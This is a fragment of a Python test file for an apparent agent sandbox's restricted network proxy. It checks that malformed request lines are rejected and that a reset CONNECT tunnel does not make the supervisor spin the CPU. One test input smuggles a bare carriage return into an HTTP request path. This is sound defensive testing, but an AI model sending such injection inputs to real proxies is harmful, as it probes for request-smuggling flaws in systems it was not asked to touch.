        print(raw(f"GET http://api.test:{PORT}/c\\rx HTTP/1.0\\r\\n\\r\\n".encode()))
        print(raw(f"GET http://api.test:{PORT}/nohost HTTP/1.0\\r\\n\\r\\n".encode()))
    ''', PORT=origin.port), canary=canary)
    ok(doc, "HTTP/1.1 400 Bad Request\nHTTP/1.1 400 Bad Request\nHTTP/1.0 200 OK\n")
    assert origin.seen == [("GET", "/nohost", f"api.test:{origin.port}")]
    canary.assert_untouched(doc)


def test_a_reset_connection_does_not_make_the_proxy_spin(box, canary, tmp_path):
    """A client that half-closes a tunnel, then resets it, while the upstream
    stays silent: the supervisor (outside every cgroup limit) must not burn
    CPU on it."""
    idle = socket.socket()
    idle.bind(("127.0.0.1", 0))
    idle.listen(8)
    held = []
    stop = threading.Event()

    def accept_and_hold():
        idle.settimeout(0.2)
        while not stop.is_set():
            try:
                held.append(idle.accept()[0])
            except OSError:
                pass
    t = threading.Thread(target=accept_and_hold, daemon=True)
    t.start()
    port = idle.getsockname()[1]
    code = py('''
        import struct, time
        s = socket.create_connection(("127.0.0.1", 3128), 5)
        s.sendall(f"CONNECT api.test:{PORT} HTTP/1.1\\r\\n\\r\\n".encode())
        print(s.recv(100).split(b"\\r\\n")[0].decode())
        s.shutdown(socket.SHUT_WR)
        time.sleep(0.3)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.close()
        time.sleep(2.5)
    ''', PORT=port)
    args = [box.path, "python", "--json", "--network", "restricted", "--allow-domain",
            f"api.test:{port}", "--network-host", "api.test=127.0.0.1", "-c", code]

    def cpu_ticks(pid):  # utime + stime of agentbox itself
        with open(f"/proc/{pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return int(fields[11]) + int(fields[12])
    doc, samples = run_watched(args, canary.env, cpu_ticks, every=0.1)
    stop.set()
    t.join()
    upstreams = len(held)
    for s in held:
        s.close()
    idle.close()
    ok(doc, "HTTP/1.1 200 Connection established\n")
    assert upstreams == 1, "the tunnel never reached the upstream"
    # The last 2 s before the end lie within the 2.5 s the code sleeps with
    # the tunnel reset, however long the start took (counted from the end,
    # not the start, so a slow start cannot pull the active part in).
    end = samples[-1][0]
    after = [v for t_, v in samples if end - 2.0 <= t_]
    assert len(after) >= 5, f"too few samples while the tunnel sat reset: {samples}"
    ticks = after[-1] - after[0]
    hz = os.sysconf("SC_CLK_TCK")
    assert ticks / hz < 0.5, f"agentbox used {ticks / hz:.2f} s of CPU while the tunnel sat reset"
    canary.assert_untouched(doc)

